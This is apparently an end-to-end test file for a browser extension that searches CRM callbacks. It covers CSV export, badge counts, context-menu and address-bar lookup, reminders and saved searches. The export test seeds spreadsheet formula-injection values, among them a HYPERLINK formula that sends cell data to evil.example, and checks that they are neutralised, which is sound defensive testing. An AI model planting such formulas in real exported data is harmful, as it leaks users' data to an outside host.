import { readFile } from 'node:fs/promises';
import { afterEach, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import { AGENTS } from '../../mock-api/catalog';
import { FIXTURE_LEADS } from '../../mock-api/server';
import { CSV_COLUMNS } from '../../utils/search/export/csv';
import { parseCsv } from '../support/csv';
import { launchExtension, screen, type ExtensionSession } from '../harness';
import { openFilters, openSettledPopup } from '../support/popup-page';

// Issue 12's power tools in real Chromium, driven as an agent uses them. The
// context menu and the address bar cannot be clicked by a test: the tests call the
// very handlers the browser calls, in the test build's bridge page
// (tests/harness/bridge/). An alarm is fired for real.

declare const chrome: any;

let ext: ExtensionSession | undefined;
afterEach(async () => {
  await ext?.close();
  ext = undefined;
});

/**
 * The page the extension opened at an address `matches` accepts. A new tab's
 * first address is about:blank, so a `page` event checked at once can miss it,
 * and the search tab rewrites its address once it has searched: match the
 * address each page was navigated to (its navigation entry), whenever we look.
 */
async function pageOpened(session: ExtensionSession, matches: (url: string) => boolean): Promise<Page> {
  const navigatedTo = (p: Page) =>
    p.evaluate(() => (performance.getEntriesByType('navigation')[0] as PerformanceNavigationTiming | undefined)?.name ?? '').catch(() => '');
  let found: Page | undefined;
  await expect
    .poll(
      async () => {
        for (const p of await session.pages()) if (matches(await navigatedTo(p))) found = p;
        return found !== undefined;
      },
      { timeout: 30_000 },
    )
    .toBe(true);
  return found!;
}

const searchRequests = () => ext!.api.searchRequests();

describe('Export CSV', () => {
  it('exports every callback of a multi-page result from the popup, in a tab that outlives it', async () => {
    ext = await launchExtension();
    const pastDue = ext.api.dataset.callbacks.filter((c) => c.stageKey === 'PASTDUE');
    expect(pastDue.length).toBeGreaterThan(2000);
    // Comments a spreadsheet would run as formulas.
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', '\t=1', '\r=2'];
    const hostileIds = hostile.map((text, i) => {
      const record = pastDue[i * 400]!.record;
      record.comments = text;
      return record.id;
    });
    // Slow enough answers that the progress shows.
    ext.api.setFaults({ latencyMs: 300 });

    const popup = await ext.openPage('popup.html');
    await openFilters(popup);
    await screen(popup).getByLabel('Stage', { exact: true }).selectOption('PASTDUE');
    await screen(popup).getByRole('button', { name: 'Export CSV' }).click();
    const downloaded = ext.nextDownload();
    const tab = await pageOpened(ext, (url) => url.includes('/search.html'));
    // The popup is gone; the export goes on in the tab.
    if (!popup.isClosed()) await popup.close();
    await screen(tab).getByText(/^Exporting… [\d,]+ of 2,\d{3} callbacks$/).waitFor();
    expect(await screen(tab).getByRole('progressbar').count()).toBe(1);
    expect(await screen(tab).getByRole('button', { name: 'Cancel export' }).isVisible()).toBe(true);

    const download = await downloaded;
    expect(download.name).toMatch(/^callbacks-\d{4}-\d{2}-\d{2}-\d{4}\.csv$/);
    const bytes = await readFile(download.path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
    const body = rows.slice(1);
    expect(body).toHaveLength(pastDue.length);
    const idAt = rows[0]!.indexOf('Callback ID');
    const commentsAt = rows[0]!.indexOf('Comments');
    const timeAt = rows[0]!.indexOf('Callback time');
    expect(body.map((r) => r[idAt]).sort()).toEqual(pastDue.map((c) => c.record.id).sort());
    const byId = new Map(body.map((r) => [r[idAt], r]));
    // The reader trims a comment's surrounding whitespace (a leading tab or CR);
    // what a spreadsheet would run is neutralised, and no cell anywhere starts a formula.
    expect(hostileIds.map((id) => byId.get(id)![commentsAt])).toEqual(hostile.map((text) => `'${text.trim()}`));
    expect(body.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(body.every((r) => /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(r[timeAt]!))).toBe(true);

    await screen(tab).getByText(`Exported ${pastDue.length.toLocaleString('en-US')} callbacks.`).waitFor();
    const exportPages = searchRequests().filter((r) => r.query.limit === '1000');
    expect(exportPages.map((r) => [r.query.stage, r.query.offset])).toEqual([
      ['PASTDUE', '0'],
      ['PASTDUE', '1000'],
      ['PASTDUE', '2000'],
    ]);
  });
});

describe('due callbacks on the toolbar icon', () => {
  it('counts the agent’s pending and past-due callbacks up to today and follows the API’s data', async () => {
    const agent = AGENTS[0]!;
    ext = await launchExtension({ userId: agent.id });
    const badgeText = async () => (await ext!.worker()).evaluate(() => chrome.action.getBadgeText({})) as Promise<string>;
    expect(await badgeText()).toBe('');

    const options = await ext.openPage('options.html');
    await screen(options).getByLabel('Show my due callbacks on the toolbar icon').check();
    await expect.poll(() => searchRequests().length).toBe(2);
    // The two counts are asked at once: they reach the API in either order.
    const asked = searchRequests().map((r) => r.query);
    const pending = asked.find((q) => q.stage === 'PENDING');
    const pastDue = asked.find((q) => q.stage === 'PASTDUE');
    const today = pending!.end_date!;
    expect(pending).toMatchObject({ user_id: agent.id, stage: 'PENDING', limit: '1', end_date: new Date().toLocaleDateString('en-CA') });
    expect(pastDue).toMatchObject({ user_id: agent.id, stage: 'PASTDUE', limit: '1', end_date: today });

    const due = ext.api.dataset.callbacks.filter(
      (c) => c.record.user === agent.id && (c.stageKey === 'PENDING' || c.stageKey === 'PASTDUE') && c.date <= today,
    );
    expect(due.some((c) => c.stageKey === 'PASTDUE')).toBe(true);
    await expect.poll(badgeText).toBe(String(due.length));
    // Red: something is past due.
    expect(await (await ext.worker()).evaluate(() => chrome.action.getBadgeBackgroundColor({}))).toEqual([179, 38, 30, 255]);
    expect(await (await ext.worker()).evaluate(() => chrome.alarms.get('due-count'))).toMatchObject({ periodInMinutes: 15 });

    // The agent completes one in Convoso; the next alarm shows one fewer.
    const done = due.find((c) => c.stageKey === 'PENDING') ?? due[0]!;
    (done as { stageKey: string }).stageKey = 'COMPLETED';
    await ext.inExtension((b) => b.browser.alarms.create('due-count', { when: Date.now(), periodInMinutes: 15 }));
    await expect.poll(badgeText).toBe(String(due.length - 1));

    await screen(options).getByLabel('Show my due callbacks on the toolbar icon').uncheck();
    await expect.poll(badgeText).toBe('');
    expect(await (await ext.worker()).evaluate(() => chrome.alarms.get('due-count'))).toBeUndefined();
  });

  it('cannot be turned on before a user ID is saved', async () => {
    ext = await launchExtension();
    const options = await ext.openPage('options.html');
    await screen(options).getByText('Save your Convoso user ID above to use these').waitFor();
    expect(await screen(options).getByLabel('Show my due callbacks on the toolbar icon').isDisabled()).toBe(true);
  });
});

describe('lookup from anywhere', () => {
  const opened = (lead: string) => pageOpened(ext!, (url) => url.endsWith(`/search.html?lead_id=${lead}`));

  it('the context menu on a selection and on a link opens the lead’s callbacks', async () => {
    ext = await launchExtension();
    expect(await (await ext.worker()).evaluate(() => chrome.runtime.getManifest().permissions)).toContain('contextMenus');

    let tab = opened(FIXTURE_LEADS.withCallbacks);
    await ext.inExtension(
      (b, id) => b.onMenuClicked({ menuItemId: 'lead-from-selection', selectionText: `Lead #${id}` }),
      FIXTURE_LEADS.withCallbacks,
    );
    const fromSelection = await tab;
    await screen(fromSelection).getByText('3 callbacks', { exact: true }).waitFor();

    tab = opened(FIXTURE_LEADS.leadB);
    const link = ext.crmUrl(`/crm/lead.html?lead_id=${FIXTURE_LEADS.leadB}`);
    await ext.inExtension((b, url) => b.onMenuClicked({ menuItemId: 'lead-from-link', linkUrl: url }), link);
    await screen((await tab)).getByText('5 callbacks', { exact: true }).waitFor();
  });

  it('`cb 515151` in the address bar opens the lead’s callbacks', async () => {
    ext = await launchExtension();
    expect(await (await ext.worker()).evaluate(() => chrome.runtime.getManifest().omnibox)).toEqual({ keyword: 'cb' });
    const tab = opened(FIXTURE_LEADS.leadA);
    await ext.inExtension((b, text) => b.onOmniboxEntered(text, 'newForegroundTab'), ` ${FIXTURE_LEADS.leadA} `);
    await screen((await tab)).getByText('2 callbacks', { exact: true }).waitFor();
  });
});

describe('reminders', () => {
  it('clicking a reminder opens the tab view on that callback', async () => {
    ext = await launchExtension();
    const record = ext.api.dataset.callbacks.find((c) => c.record.lead_id === FIXTURE_LEADS.withCallbacks)!.record;
    const tab = pageOpened(ext, (url) => url.endsWith(`/search.html?lead_id=${record.lead_id}&id=${record.id}`));
    const handled = await ext.inExtension((b, id) => b.onReminderClicked(id), `callback-reminder:${record.lead_id}:${record.id}`);
    expect(handled).toBe(true);
    await screen((await tab)).getByText('1 callback', { exact: true }).waitFor();
  });
});

describe('saved searches', () => {
  it('saves the current filters, runs one in a click, renames, reorders and deletes', async () => {
    ext = await launchExtension();
    let popup = await ext.openPage('popup.html');
    const savedSearches = () => screen(popup).getByRole('button', { name: 'Saved searches' });
    await savedSearches().click();
    await openFilters(popup);
    await screen(popup).getByLabel('Stage', { exact: true }).selectOption('PASTDUE');
    await screen(popup).getByLabel('Name for the current filters').fill('Overdue');
    await screen(popup).getByRole('button', { name: 'Save search' }).click();
    await screen(popup).getByLabel('Stage', { exact: true }).selectOption('');
    await screen(popup).getByLabel('Lead ID').fill(FIXTURE_LEADS.leadB);
    await screen(popup).getByLabel('Name for the current filters').fill('Lead B');
    await screen(popup).getByRole('button', { name: 'Save search' }).click();
    const runRow = screen(popup).getByRole('list', { name: 'Run a saved search' });
    await expect.poll(() => runRow.getByRole('button').allTextContents()).toEqual(['Overdue', 'Lead B']);

    await screen(popup).getByRole('button', { name: 'Move Lead B up' }).click();
    await screen(popup).getByRole('button', { name: 'Rename Overdue' }).click();
    await screen(popup).getByLabel('New name for Overdue').fill('Past due');
    await screen(popup).getByRole('button', { name: 'Save name' }).click();
    await expect.poll(() => runRow.getByRole('button').allTextContents()).toEqual(['Lead B', 'Past due']);
    await popup.close();

    // Kept across popups; one click searches with the saved filters.
    popup = await openSettledPopup(ext);
    await savedSearches().click();
    await screen(popup).getByRole('list', { name: 'Run a saved search' }).getByRole('button', { name: 'Past due' }).click();
    await expect.poll(() => searchRequests().length).toBe(1);
    expect(searchRequests()[0]!.query).toMatchObject({ stage: 'PASTDUE', offset: '0' });
    expect(searchRequests()[0]!.query.lead_id).toBeUndefined();
    expect(await screen(popup).getByLabel('Stage', { exact: true }).inputValue()).toBe('PASTDUE');

    await savedSearches().click();
    await screen(popup).getByRole('button', { name: 'Delete Lead B' }).click();
    await expect
      .poll(() => screen(popup).getByRole('list', { name: 'Run a saved search' }).getByRole('button').allTextContents())
      .toEqual(['Past due']);
  });
});
